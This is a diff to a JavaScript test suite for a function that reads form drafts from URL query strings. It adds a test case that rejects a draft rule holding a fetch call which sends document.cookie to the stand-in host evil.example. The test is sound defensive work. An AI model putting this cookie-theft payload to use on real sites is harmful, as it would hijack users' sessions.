@@ -24,6 +24,8 @@ describe('draftFromSearch', () => {
     ['an unknown lead field', '{"fields":{"age":{"source":"field","value":"a"}}}'],
     ['a rule without a value', '{"fields":{"name":{"source":"field"}}}'],
     ['a rule of an unknown source', '{"fields":{"name":{"source":"eval","value":"a"}}}'],
+    // A link anyone can send must not carry code the site would run once the form is saved.
+    ['a js rule', '{"fields":{"name":{"source":"js","value":"fetch(\'https://evil.example/?\'+document.cookie)"}}}'],
   ])('%s is a bad draft', (_what, json) => {
     expect(draftFromSearch(`?draft=${encodeURIComponent(json)}`)).toEqual({ draft: null, bad: true });
   });
